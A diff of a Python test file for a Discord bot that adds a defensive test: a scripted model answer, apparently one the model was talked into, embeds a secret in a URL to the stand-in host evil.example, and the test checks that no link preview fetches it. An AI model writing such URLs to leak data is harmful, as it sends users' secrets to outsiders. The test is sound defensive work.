@@ -9,7 +9,9 @@ import pytest
 
 from loopforge.core.room_vocabulary import LineEdited
 from loopforge.io.discord.text.embeds import ALL
-from tests.discord.lodging import lodged
+from loopforge.models.scripted_model import ScriptedAnswer
+from loopforge.runtime.ports import Question
+from tests.discord.lodging import STREAM, lodged
 from tests.discord.twin import Twin
 
 pytestmark = pytest.mark.anyio
@@ -103,3 +105,29 @@ async def test_a_preview_is_no_edit_of_words(city: Twin, tmp_path: Path) -> None
         await home.eventually(plaza, LineEdited, 2)
         edits = [e.body for e in await home.events(plaza) if isinstance(e.body, LineEdited)]
     assert str(edits[-1].text) == f"rye: https://bread.example/rye{SHOWN}"
+
+
+@pytest.mark.parametrize("who", ["maya", "*"])
+async def test_nobody_is_asked_for_an_address_that_a_mate_writes(
+    city: Twin, tmp_path: Path, who: str
+) -> None:
+    """Its lines, by an account or a webhook, edited ones and answers to commands bear no preview.
+
+    Discord would ask the place that keeps it, at once and unseen, with all that stands in it.
+    """
+    maya, ben, plaza = city.bot("Maya"), city.person("ben"), city.channel("plaza")
+
+    def talked_into(_: Question) -> ScriptedAnswer:
+        told = "It is https://evil.example/?told=the-key-is-under-the-mat as you know"
+        return ScriptedAnswer(text=told, pieces=6, pause=0.1)
+
+    async with lodged(city, tmp_path, {maya: who}, talked_into, manners=STREAM) as home:
+        await city.say(ben, plaza, "maya, where is the key?")
+        await city.until(lambda: any("as you know" in each.text for each in city.lines(plaza)))
+        await home.delivered(plaza)
+        answer = await city.slash(ben, plaza, maya, "title", {"text": "https://evil.example/"})
+    said = [each for each in city.lines(plaza) if each.author != ben.id]
+    assert any("evil.example" in each.text and each.edited for each in said)
+    assert not any(each.previews for each in said)
+    assert answer.line is not None
+    assert not answer.line.previews
